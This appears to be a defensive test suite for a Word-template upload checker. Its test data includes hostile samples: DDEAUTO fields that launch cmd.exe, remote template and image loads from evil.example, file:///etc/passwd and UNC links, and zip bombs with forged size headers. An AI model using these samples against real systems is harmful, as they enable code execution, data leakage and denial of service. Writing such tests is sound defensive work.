"""What a Word file could do by itself, or with the memory of the server, is refused when it is uploaded."""

import io
import struct
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

import pytest
from docx import Document

from casework.letters import word_template
from casework.letters.fields import samples
from casework.letters.own_word import package as word_package
from casework.letters.own_word.markup import Refused
from tests.letters.documents import changed, kept, made
from tests.letters.test_word_template import WHO, refusal, replaced

ROOT = Path(__file__).parent.parent.parent
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MAIN = "word/document.xml"


def with_runs(*runs: str) -> bytes:
    """A good letter with one more paragraph of these runs."""
    paragraph = f"<w:p>{''.join(runs)}</w:p><w:sectPr".encode()
    return changed(made(WHO), replaced(MAIN, b"<w:sectPr", paragraph))


def char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def instruction(*pieces: str, tag: str = "w:instrText") -> list[str]:
    return [f'<w:r><{tag} xml:space="preserve">{piece}</{tag}></w:r>' for piece in pieces]


def complex_field(*pieces: str) -> bytes:
    """A field whose instruction stands in so many runs."""
    return with_runs(char("begin"), *instruction(*pieces), char("separate"), "<w:r><w:t>1</w:t></w:r>", char("end"))


def simple_field(said: str) -> bytes:
    said = said.replace("&", "&amp;").replace('"', "&quot;")
    return with_runs(f'<w:fldSimple w:instr="{said}"><w:r><w:t>1</w:t></w:r></w:fldSimple>')


MAY_STAY = (
    "PAGE",
    " NUMPAGES  \\* MERGEFORMAT ",
    'DATE \\@ "d MMMM yyyy"',
    "date\\@ d",
    "REF _Ref123 \\h",
    'TOC \\o "1-3" \\h \\z \\u',
    'HYPERLINK "https://www.legislation.gov.uk/" \\o "The law" \\t "_blank"',
    'HYPERLINK \\l "part2"',
    "HYPERLINK mailto:office@office.example",
)
RUN_OR_LOAD = (
    'INCLUDEPICTURE "http://evil.example/t.png" \\d',
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    "DDE excel book",
    "INCLUDETEXT file.docx",
    'IF 1 = 1 "yes"',
    "MACROBUTTON Run here",
    "DATABASE \\d x",
    'LINK Excel.Sheet.8 "x"',
    "RD other.docx",
    "ADDIN x",
    'PAGEX "1"',
    "= 1 + 1",
    'HYPERLINK "file:///etc/passwd"',
    'HYPERLINK "\\\\\\\\evil.example\\\\share"',
    'HYPERLINK \\o "https://www.legislation.gov.uk/" "file:///etc/passwd"',
    'HYPERLINK "https://www.legislation.gov.uk/" javascript:x',
    'HYPERLINK "https://a.example',
)


@pytest.mark.parametrize("said", MAY_STAY)
def test_page_numbers_dates_references_and_links_to_the_web_may_stay(said: str) -> None:
    assert refusal("letter.docx", simple_field(said)) == ""
    assert refusal("letter.docx", complex_field(said)) == ""


@pytest.mark.parametrize("said", RUN_OR_LOAD)
def test_a_field_that_could_load_or_run_something_is_refused(said: str) -> None:
    for content in (simple_field(said), complex_field(said), complex_field(*said)):
        assert refusal("letter.docx", content)
        with pytest.raises(Refused):
            word_template.render(content, samples())


HIDDEN = {
    "in two runs": complex_field("INCLUDE", 'PICTURE "http://evil.example/t.png"'),
    "beside an allowed word": complex_field("PAGE", 'X "1"'),
    "never ended": with_runs(char("begin"), *instruction("DDEAUTO x")),
    "in no field": with_runs(*instruction("DDEAUTO x")),
    "in a result": with_runs(char("begin"), *instruction("PAGE"), char("separate"), *instruction("DDEAUTO x"), char("end")),
    "put together by another": with_runs(
        char("begin"), *instruction("INCLUDE"), char("begin"), *instruction("PAGE"), char("end"), char("end")
    ),
    "struck out": with_runs(char("begin"), *instruction("DDEAUTO x", tag="w:delInstrText"), char("end")),
    "by another name of the namespace": changed(
        made(WHO),
        replaced(MAIN, b"<w:sectPr", f'<x:p xmlns:x="{W}"><x:fldSimple x:instr="DDEAUTO x"/></x:p><w:sectPr'.encode()),
    ),
    "in the footer": changed(
        made(WHO), lambda name, part: part.replace(b"</w:ftr>", b'<w:p><w:fldSimple w:instr="DDE x"/></w:p></w:ftr>')
    ),
}  # fmt: skip


@pytest.mark.parametrize("where", HIDDEN)
def test_an_instruction_is_found_wherever_it_stands(where: str) -> None:
    assert "could load or run something" in refusal(
        "letter.docx", HIDDEN[where]
    ) or "instruction of another" in refusal("letter.docx", HIDDEN[where])


RELATION = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)
NAMES: dict[str, dict[str, bytes]] = {
    "a template from outside, in capitals": {"word/_rels/settings.xml.RELS": RELATION},
    "a document type, in capitals": {"word/header9.XML": b"<!DOCTYPE x><x/>"},
    "no ending": {"word/thing": b"<!DOCTYPE x><x/>"},
    "a web page": {"word/afchunk.htm": b"<html/>"},
    "a chart": {"word/charts/chart1.xml": b"<x/>"},
    "a drawing with words of its own": {"word/media/a.svg": b"<svg/>"},
    "macros, in capitals": {"WORD/VBAPROJECT.BIN": b"x"},
    "a mail merge": {"word/recipientData.xml": b"<x/>"},
    "the text twice, in capitals": {"WORD/document.xml": b"<x/>"},
}


@pytest.mark.parametrize("what", NAMES)
def test_parts_that_no_letter_needs_are_refused_whatever_their_capitals(what: str) -> None:
    assert refusal("letter.docx", changed(made(WHO), kept, **NAMES[what]))


@pytest.mark.parametrize(
    "element",
    [
        '<w:altChunk r:id="rId1"/>',
        "<w:object/>",
        '<w:subDoc r:id="rId1"/>',
        '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/x.png"/>',
        '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:x" o:href="http://evil.example/x.png"/>',
    ],
)
def test_elements_that_load_without_saying_so_are_refused(element: str) -> None:
    space = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    assert refusal("letter.docx", with_runs(f"<w:r {space}>{element}</w:r>"))


def test_a_mail_merge_in_the_settings_is_refused() -> None:
    query = b'<w:mailMerge><w:connectString w:val="x"/></w:mailMerge></w:settings>'
    assert refusal("letter.docx", changed(made(WHO), replaced("word/settings.xml", b"</w:settings>", query)))


def test_what_word_itself_makes_is_taken() -> None:
    parts = {
        "docMetadata/LabelInfo.xml": b"<x/>", "customXml/item2.xml": b'<x src="http://a.example"/>',
        "customXml/itemProps2.xml": b"<x/>", "customXml/_rels/item2.xml.rels": RELATION.replace(b"External", b"Internal")
        .replace(b"http://evil.example/x.dotm", b"itemProps1.xml"),
        "word/glossary/document.xml": b"<x/>", "word/commentsExtended.xml": b"<x/>", "word/media/image1.PNG": b"x",
    }  # fmt: skip
    assert refusal("letter.docx", changed(made(WHO), kept, **parts)) == ""


def test_it_is_kept_as_python_docx_saves_it_without_what_stands_beside_the_letter() -> None:
    content = changed(made(WHO), kept, **{"word/media/left-over.png": b"left over"})
    saved = word_template.taken("letter.docx", content)
    names = zipfile.ZipFile(io.BytesIO(saved)).namelist()
    assert "word/media/left-over.png" not in names
    assert [one.text for one in Document(io.BytesIO(saved)).paragraphs] == [WHO]
    assert word_template.taken("letter.docx", saved) == saved


def packed(parts: dict[str, bytes], lies: dict[str, int], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A package that tells another size than the true one of some parts, in both headers, with the check sum of as many
    bytes."""
    stream, listed = io.BytesIO(), []
    for name, part in parts.items():
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        body = packer.compress(part) + packer.flush()
        told = lies.get(name, len(part))
        head = struct.pack("<HHHHHIIIHH", 20, 0, method, 0, 33, zlib.crc32(part[:told]), len(body), told, len(name), 0)
        listed.append((name, head, stream.tell()))
        stream.write(b"PK\x03\x04" + head + name.encode() + body)
    start = stream.tell()
    for name, head, where in listed:
        stream.write(
            b"PK\x01\x02" + struct.pack("<H", 20) + head + struct.pack("<HHHII", 0, 0, 0, 0, where) + name.encode()
        )
    size = stream.tell() - start
    stream.write(b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(listed), len(listed), size, start, 0))
    return stream.getvalue()


def good_parts() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(made(WHO))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_the_sizes_that_a_file_tells_are_compared_and_not_believed() -> None:
    assert refusal("letter.docx", packed(good_parts(), {})) == ""
    zeros = {"word/media/a.png": bytes(30 * 1024 * 1024)}
    assert "unpacks to far more" in refusal("letter.docx", packed({**good_parts(), **zeros}, {"word/media/a.png": 100}))
    small = {"word/media/a.png": bytes(1000)}
    assert "damaged" in refusal("letter.docx", packed({**good_parts(), **small}, {"word/media/a.png": 100}))


def test_many_parts_are_counted_together() -> None:
    pictures = {f"word/media/{number}.png": bytes(1024 * 1024) for number in range(30)}
    told = dict.fromkeys(pictures, 100)
    assert refusal("letter.docx", packed({**good_parts(), **pictures}, told))
    assert "unpacks to far more" in refusal("letter.docx", packed({**good_parts(), **pictures}, {}))
    texts = {f"word/header{number}.xml": b"<x>" + b" " * 400_000 + b"</x>" for number in range(20)}
    assert "too long" in refusal("letter.docx", packed({**good_parts(), **texts}, {}))


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_ways_of_packing_that_unpack_everything_at_once_are_refused(method: int) -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in good_parts().items():
            archive.writestr(name, part)
        archive.writestr("word/media/a.png", bytes(19 * 1024 * 1024), compress_type=method)
    assert "packed in a way" in refusal("letter.docx", stream.getvalue())


@pytest.mark.skipif(sys.platform != "linux", reason="reads /proc")
def test_no_word_file_takes_much_memory(tmp_path: Path) -> None:
    lie = {"word/media/a.png": 100}
    hostile = {
        "a lie": packed({**good_parts(), "word/media/a.png": bytes(300 * 1024 * 1024)}, lie),
        "a lie about text": packed({**good_parts(), "word/header9.xml": b" " * 300 * 1024 * 1024}, {"word/header9.xml": 9}),
        "as much as may be": packed(
            {**good_parts(), **{f"word/media/{number}.png": bytes(1024 * 1024) for number in range(19)}}, {}
        ),
        "much text": packed(
            {**good_parts(), **{f"word/header{n}.xml": b"<x>" + b"<w/>" * 100_000 + b"</x>" for n in range(9)}}, {}
        ),
    }  # fmt: skip
    for name, content in hostile.items():
        assert len(content) <= word_package.LARGEST, name
        (tmp_path / f"{name}.docx").write_bytes(content)
    script = (
        "import re, sys\nfrom casework.letters import word_template\nfrom casework.letters.own_word.markup import Refused\n"
        "for name in sys.argv[1:]:\n    try:\n        word_template.taken(name, open(name, 'rb').read())\n"
        "    except Refused:\n        pass\nprint(re.search(r'VmHWM:\\s+(\\d+)', open('/proc/self/status').read())[1])"
    )
    files = [str(tmp_path / f"{name}.docx") for name in hostile]
    done = subprocess.run([sys.executable, "-c", script, *files], cwd=ROOT, capture_output=True, text=True, check=True)
    assert int(done.stdout) < 250 * 1024, "kilobytes"
